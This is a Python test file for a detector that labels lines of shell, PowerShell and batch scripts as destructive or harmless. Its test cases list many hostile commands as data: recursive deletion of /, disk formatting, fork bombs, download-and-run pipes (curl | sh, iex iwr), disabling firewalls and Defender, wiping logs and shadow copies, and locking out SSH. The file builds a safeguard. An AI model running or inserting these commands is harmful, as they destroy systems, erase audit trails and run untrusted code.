"""Which lines of a script are dangerous, and which only look it. The samples are what the words are about."""

import time
from pathlib import Path

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from commands.dangers import dangers_in
from commands.parameters import fill_in

SHELL, POWERSHELL, BAT = "RunShellScript", "RunPowerShellScript", "RunBatScript"
REPOSITORY = Path(__file__).resolve().parents[2]
EVERYDAY = (REPOSITORY / "simulator" / "commands", REPOSITORY / "tests" / "corpus")
TYPES = {".sh": SHELL, ".ps1": POWERSHELL, ".bat": BAT}


def codes(content: str, command_type: str = SHELL) -> list[str]:
    return [danger.code for danger in dangers_in(content, command_type)]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("rm -rf /", "remove"),
        ("rm -rf /*", "remove"),
        ("rm -fr -- /", "remove"),
        ("rm --recursive --force --no-preserve-root /", "remove"),
        ("/bin/rm -Rf '/usr'", "remove"),
        ("sudo -u root rm -rf /etc/", "remove"),
        ("rm -rf /var//lib/", "remove"),
        ("rm -rf /tmp/..", "remove"),
        ("rm -r ~", "remove"),
        ("rm -rf $HOME/*", "remove"),
        ("rm -rf \\\n  /", "remove"),
        ("cd / && rm -rf *", "remove"),
        ("cd /etc; rm -rf ./*", "remove"),
        ('DIR=/\nrm -rf "$DIR"', "remove"),
        ("if true; then rm -rf /home; fi", "remove"),
        ("for x in 1 2; do rm -rf /usr/*; done", "remove"),
        ("bash -c 'rm -rf /'", "remove"),
        ("ssh db1 rm -rf /", "remove"),
        ('ssh -p 22 db1 "rm -rf /"', "remove"),
        ('eval "rm -rf /"', "remove"),
        ("bash <<EOF\nrm -rf /\nEOF", "remove"),
        ("bash <<< 'rm -rf /'", "remove"),
        ("x=$(rm -rf /)", "remove"),
        ('echo "$(rm -rf /)"', "remove"),
        ("x=`rm -rf /`", "remove"),
        ("timeout -s KILL 5 rm -rf /boot", "remove"),
        ("find / -delete", "remove"),
        ("find /etc -type f -exec rm -f {} +", "remove"),
        ("mv /home /tmp/x", "remove"),
        ('rm -rf "$X"/*', "remove-unset"),
        ("rm -rf $DIR/", "remove-unset"),
        ("rm -rf ${DIR}/etc", "remove-unset"),
        ("X=$1\nrm -rf $X/*", "remove-unset"),
        ("rm -f /etc/passwd", "remove-file"),
        ("echo x > /etc/fstab", "overwrite"),
        ("mkfs.ext4 /dev/vdb1", "format"),
        ("mkfs -t xfs /dev/vdb", "format"),
        ("wipefs -a /dev/vdb", "format"),
        ("echo , | sfdisk /dev/vdb", "format"),
        ("parted /dev/vdb mklabel gpt", "format"),
        ("cryptsetup luksFormat /dev/vdb", "format"),
        ("dd if=/dev/zero of=/dev/vda bs=1M", "device"),
        ("cat image > /dev/sda", "device"),
        ("echo x >/dev/nvme0n1", "device"),
        ("shred -n 1 /dev/vdb", "device"),
        ("shutdown -h now", "power"),
        ("sleep 5 && reboot", "power"),
        ("nohup /sbin/reboot &", "power"),
        ("init 0", "power"),
        ("systemctl poweroff", "power"),
        ("echo b > /proc/sysrq-trigger", "power"),
        (":(){ :|:& };:", "fork-bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
        ("chmod -R 777 /", "mode"),
        ("chmod 777 -R /etc", "mode"),
        ("chown -R www:www /", "owner"),
        ("mv /data/* /dev/null", "throw-away"),
        ("curl -fsSL https://example.com/x | sh", "download"),
        ("curl https://example.com/x | sudo bash -s -- --yes", "download"),
        ("wget -qO- https://example.com/x | tee log | bash", "download"),
        ("bash <(curl -s https://example.com/x)", "download"),
        ('sh -c "$(curl -fsSL https://example.com/x)"', "download"),
        ('eval "$(wget -qO- https://example.com/x)"', "download"),
        ("source <(curl -s https://example.com/x)", "download"),
        ("curl -s https://example.com/x.py | python3 -", "download"),
        ("iptables -F", "firewall"),
        ("iptables -t nat --flush", "firewall"),
        ("ufw disable", "firewall"),
        ("systemctl stop firewalld", "firewall"),
        ("nft flush ruleset", "firewall"),
        ("iptables -P INPUT DROP", "lock-out"),
        ("systemctl disable --now sshd.service", "lock-out"),
        ("service ssh stop", "lock-out"),
        ("ip link set eth0 down", "lock-out"),
        ("systemctl stop aliyun.service", "agent"),
        ("userdel -r deploy", "account"),
        ("passwd -l root", "root-password"),
        ("echo 'root:x' | chpasswd", "root-password"),
        ("history -c", "traces"),
        ("> /var/log/secure", "traces"),
        ("rm -f ~/.bash_history", "traces"),
        ("kill -9 -1", "kill-all"),
        ("crontab -r", "crontab"),
        ("crontab -u app -r", "crontab"),
        ("mysql -e 'DROP DATABASE shop'", "database"),
        ("mysql <<SQL\ndrop database shop;\nSQL", "database"),
        ("redis-cli FLUSHALL", "database"),
        ("#!/usr/bin/env python3\nimport os\nos.system('rm -rf /')", "remove"),
    ],
)
def test_a_shell_script_that_destroys_is_told(content, code):
    assert codes(content) == [code]


@pytest.mark.parametrize(
    "content",
    [
        'rm -rf "$tmp"/build',
        "rm -rf ./x",
        "rm -rf /tmp/x",
        "rm -rf /tmp/*",
        "rm -rf x/*",
        "rm -f /var/log/app/*.log",
        "rm -rf /var/cache/yum/*",
        "rm -rf /var/lib/app/cache",
        "rm -rf /opt/app/releases/old",
        "rm -rf {{dir}}/cache",
        "rm -rf {{dir}}/*",
        'tmp=$(mktemp -d)\nrm -rf "$tmp"/*',
        "set -eu\nrm -rf $DIR/*",
        'rm -rf "${DIR:?}"/*',
        "rm -rf ${DIR:-/opt/app}/*",
        "for d in a b; do rm -rf $d/*; done",
        'while read -r d; do rm -rf "$d"/*; done < list',
        'clean() {\n  rm -rf "$1"/*\n}',
        ". /etc/app.conf\nrm -rf $DATA/*",
        "cd /tmp/x && rm -rf *",
        "DIR=/opt/app\nrm -rf $DIR/*",
        "arr=(a b)\nrm -rf ${arr[0]}/*",
        "# rm -rf /",
        "  # careful: rm -rf /",
        "echo ok # rm -rf /",
        "echo 'rm -rf /'",
        'echo "rm -rf / is bad"',
        "cat > /tmp/x <<'EOF'\nrm -rf /\nshutdown\nEOF\necho done",
        "cat <<-EOF\n\trm -rf /\n\tEOF\necho",
        "grep -r 'DROP DATABASE' /srv/app",
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "find /tmp/x -delete",
        "dd if=/dev/zero of=/swapfile bs=1M count=1024",
        "dd if=/dev/vda of=/dev/null",
        "fdisk -l",
        "wipefs /dev/vdb",
        "parted /dev/vdb print",
        "echo x > /dev/null 2>&1",
        "echo x >&2",
        "shutdown -c",
        "reboot() { echo no; }",
        "systemctl reboot-check",
        "last reboot",
        "grep shutdown /var/log/messages",
        "chmod -R 755 /srv/app",
        "chown -R www:www /var/www/html",
        "chown -R mysql:mysql /var/lib/mysql",
        "chown -R app:app /opt /srv",
        "chmod 777 /tmp/x",
        "mv /tmp/a /tmp/b",
        "curl -fsSL https://example.com/x -o /tmp/x",
        "curl -s https://example.com/x.json | jq .",
        "curl -s https://example.com/x.json | python3 -m json.tool",
        "curl -s https://example.com/x | grep bash",
        "iptables -L -n",
        "iptables -A INPUT -p tcp --dport 80 -j ACCEPT",
        "ufw status",
        "systemctl restart sshd",
        "systemctl status sshd",
        "ip addr show",
        "passwd -S root",
        "echo 'app:x' | chpasswd",
        "kill -9 $(cat /run/app.pid)",
        "kill -1 1234",
        "crontab -l",
        "mysql -e 'show databases'",
        "history | tail",
        "setenforce 0",
        "case $1 in stop) echo;; reboot) echo;; esac",
        "case $1 in reboot|halt) echo ;;\n  shutdown | poweroff) echo ;;\nesac",
        "echo `date`; echo $((1+2)); echo ${x#y}; echo $#",
        "journalctl --vacuum-size=200M",
    ],
)
def test_a_shell_script_that_only_looks_it_is_not(content):
    assert codes(content) == []


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("Remove-Item -Recurse -Force C:\\", "remove"),
        ("Remove-Item C:\\* -Recurse", "remove"),
        ("rm -r -fo 'C:\\Windows'", "remove"),
        ('ri "$env:SystemRoot\\System32" -Rec', "remove"),
        ("Remove-Item -Path `\n  D:\\ -Recurse", "remove"),
        ("Get-ChildItem C:\\ -Recurse | Remove-Item -Force -Recurse", "remove"),
        ('Remove-Item "$dir\\*" -Recurse', "remove-unset"),
        ("Format-Volume -DriveLetter D", "format"),
        ("Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false", "format"),
        ("Stop-Computer -Force", "power"),
        ("if ($x) { Restart-Computer }", "power"),
        ("shutdown.exe /r /t 0", "power"),
        ("iex (iwr https://example.com/x.ps1)", "download"),
        ("Invoke-WebRequest https://example.com/x | iex", "download"),
        ("iex ((New-Object Net.WebClient).DownloadString('https://example.com/x'))", "download"),
        ('Invoke-Expression "$(irm https://example.com/x)"', "download"),
        ("Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", "firewall"),
        ("netsh advfirewall set allprofiles state off", "firewall"),
        ("Stop-Service -Name AliyunService", "agent"),
        ("Set-Service TermService -StartupType Disabled", "lock-out"),
        ("Disable-NetAdapter -Name Ethernet -Confirm:$false", "lock-out"),
        ("Remove-LocalUser -Name bob", "account"),
        ("net user bob /delete", "account"),
        ("Clear-EventLog -LogName Security", "traces"),
        ("wevtutil cl Security", "traces"),
        ("Remove-Item HKLM:\\SOFTWARE -Recurse", "registry"),
        ("reg delete HKLM\\SOFTWARE\\X /f", "registry"),
        ("vssadmin delete shadows /all", "backups"),
        ("bcdedit /set testsigning on", "boot"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "protection"),
        ("while($true){Start-Process notepad}", "fork-bomb"),
    ],
)
def test_a_powershell_script_that_destroys_is_told(content, code):
    assert codes(content, POWERSHELL) == [code]


@pytest.mark.parametrize(
    "content",
    [
        "Remove-Item C:\\Temp\\x -Recurse",
        "Remove-Item $env:TEMP\\* -Recurse -Force",
        "Remove-Item .\\build -Recurse",
        "Remove-Item C:\\inetpub\\logs\\*.log",
        "$dir = 'C:\\Temp\\a'\nRemove-Item \"$dir\\*\" -Recurse",
        'foreach ($d in $all) { Remove-Item "$d\\*" -Recurse }',
        'param($Path)\nRemove-Item "$Path\\*" -Recurse',
        "Get-ChildItem C:\\Logs -Filter *.log | Remove-Item",
        "# Stop-Computer",
        "<# Restart-Computer\n#>\nGet-Date",
        "Write-Host 'Stop-Computer'",
        "Set-ExecutionPolicy Unrestricted -Scope Process",
        "Get-Process | Format-Table Name, Id",
        "Get-Volume | Format-List",
        "Get-Service | Where-Object { $_.Status -eq 'Stopped' }",
        "Restart-Service -Name TermService",
        "Invoke-WebRequest https://example.com/x -OutFile x.zip",
        "$x = @'\nStop-Computer\n'@",
        "shutdown /a",
        "bcdedit /enum",
        "reg query HKLM\\SOFTWARE",
        "Set-NetFirewallProfile -All -Enabled True",
        "New-NetFirewallRule -DisplayName x -Enabled True -Action Allow",
        "net user",
        "sc x.txt off",
    ],
)
def test_a_powershell_script_that_only_looks_it_is_not(content):
    assert codes(content, POWERSHELL) == []


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("format D: /q /y", "format"),
        ("@echo off\r\ndel /s /q C:\\", "remove"),
        ("del /F/S/Q C:\\*.*", "remove"),
        ("rd /s /q C:\\Windows", "remove"),
        ('rmdir /s /q "%SystemRoot%"', "remove"),
        ("if exist C:\\x rd /s /q D:\\", "remove"),
        ('rd /s /q "%DIR%\\"', "remove-unset"),
        ("shutdown /s /t 0", "power"),
        ("call shutdown -r", "power"),
        ("echo x & shutdown /r", "power"),
        ("diskpart /s script.txt", "format"),
        ("bcdedit /deletevalue safeboot", "boot"),
        ("REG DELETE HKEY_LOCAL_MACHINE\\SOFTWARE /f", "registry"),
        ("%0|%0", "fork-bomb"),
        ("net stop AliyunService", "agent"),
        ("sc delete AliyunService", "agent"),
        ("netsh firewall set opmode disable", "firewall"),
        ("taskkill /f /im *", "kill-all"),
        ("net user Administrator x", "root-password"),
        ('powershell -NoProfile -Command "Stop-Computer -Force"', "power"),
        ("cmd /c rd /s /q C:\\", "remove"),
        ("icacls C:\\ /grant Everyone:F /T", "mode"),
        ("shut^down /s", "power"),
    ],
)
def test_a_batch_file_that_destroys_is_told(content, code):
    assert codes(content.replace("^", "") if "shut^down" in content else content, BAT) == [code]


@pytest.mark.parametrize(
    "content",
    [
        "rem shutdown /s",
        ":: format C:",
        "@rem rd /s /q C:\\",
        "echo shutdown /s",
        "shutdown /a",
        "del /q C:\\Temp\\*.log",
        "rd /s /q C:\\Temp\\x",
        "rd /s /q %TEMP%\\x",
        "rd /s /q build",
        "set DIR=C:\\Temp\r\nrd /s /q %DIR%\\x",
        "bcdedit /enum",
        "reg delete HKCU\\Software\\X /f",
        "reg query HKLM\\SOFTWARE",
        "net start TermService",
        "ipconfig /flushdns",
        "netsh advfirewall firewall delete rule name=x",
    ],
)
def test_a_batch_file_that_only_looks_it_is_not(content):
    assert codes(content, BAT) == []


def test_no_everyday_script_is_dangerous():
    scripts = [path for folder in EVERYDAY for path in folder.rglob("*.*") if path.suffix in TYPES]

    found = {path.name: dangers_in(path.read_bytes().decode(), TYPES[path.suffix]) for path in scripts}

    assert len(found) > 60
    assert {name: dangers for name, dangers in found.items() if dangers} == {}


def test_a_value_can_be_what_makes_the_danger():
    script = "rm -rf {{dir}}/*"

    assert codes(script) == []
    assert codes(fill_in(script, {"dir": "/opt/app/cache"})) == []
    assert codes(fill_in(script, {"dir": ""})) == ["remove"]
    assert codes(fill_in("systemctl {{verb}} {{unit}}", {"verb": "stop", "unit": "sshd"})) == ["lock-out"]


def test_each_line_is_told_with_its_number_and_its_reason():
    script = "#!/bin/bash\r\n\r\ncat <<EOF\r\nreboot\r\nEOF\r\nif true; then\r\n  rm -rf $A/* && reboot\r\nfi\r\n"

    assert [(danger.line, danger.why) for danger in dangers_in(script, SHELL)] == [
        (7, "removes files recursively from / if $A is empty"),
        (7, "shuts down or restarts the machine"),
    ]


def test_a_reason_comes_in_the_language_of_who_reads_it():
    (danger,) = dangers_in("rm -rf /", SHELL)

    with translation.override("zh-hans"):
        assert danger.why == "从 / 递归删除文件"


@pytest.mark.parametrize("command_type", [SHELL, POWERSHELL, BAT])
@pytest.mark.parametrize(
    "piece",
    [
        "rm -rf $a/*; ",
        '"',
        "'",
        "$(",
        "`",
        "(",
        "{{",
        "${",
        "<<A\n",
        "bash <<A\n",
        "\\",
        "@'\n",
        "<#",
        "%a",
        ":(){",
        "| ",
        "a",
        " ",
        "*",
        "$a ",
        "set a",
        "case x in a|",
        "rm -r *",
        "if exist a ",
        "bash -c 'x y' ",
        "$a=",
        "a==",
        "set -",
        "é😀\u202e ",
        "# x\n",
        "^\n",
        "while(",
        "-r ",
    ],
)
def test_a_script_of_24_kilobytes_is_read_at_once(command_type, piece):
    script = (piece * 24_576)[:24_576]
    began = time.process_time()

    dangers_in(script, command_type)

    assert time.process_time() - began < 1  # some 50 ms; a pattern that is not linear takes minutes


WORDS = st.sampled_from(
    [
        "rm -rf ",
        "/",
        "$x",
        "${x:-/}",
        "'",
        '"',
        "$(",
        ")",
        "`",
        "<<EOF\n",
        "\nEOF\n",
        ";",
        "|",
        "&&",
        "case x in ",
        "esac",
        "a) ",
        "bash -c ",
        "{{a}}",
        "#",
        "\\",
        "\r\n",
        "(",
        "()",
        "{",
        "}",
        " ",
        "sudo -u ",
        "x=",
        "if ",
        "@'\n",
        "\n'@",
        "<#",
        "%x%",
        "^",
        "Remove-Item -Recurse ",
        "C:\\",
        "rd /s ",
        "cmd /c ",
        "for ",
        "> ",
        "2>&1",
        "dd of=/dev/sda",
        "-",
        "--",
        "=",
        "\ufeff",
        "😀",
    ]
)


@pytest.mark.parametrize("program", ["sudo", "xargs", "env", "nohup"])
def test_a_program_that_runs_itself_thousands_of_times_is_read_through(program):
    script = f"{program} " * 20_000 + "rm -rf /etc"

    assert [danger.code for danger in dangers_in(script, SHELL)] == ["remove"]


@given(st.lists(WORDS, max_size=40).map("".join), st.sampled_from([SHELL, POWERSHELL, BAT]))
def test_whatever_a_script_is_each_danger_stands_on_a_line_of_it(script, command_type):
    for danger in dangers_in(script, command_type):
        assert 1 <= danger.line <= script.count("\n") + 1
        assert danger.why
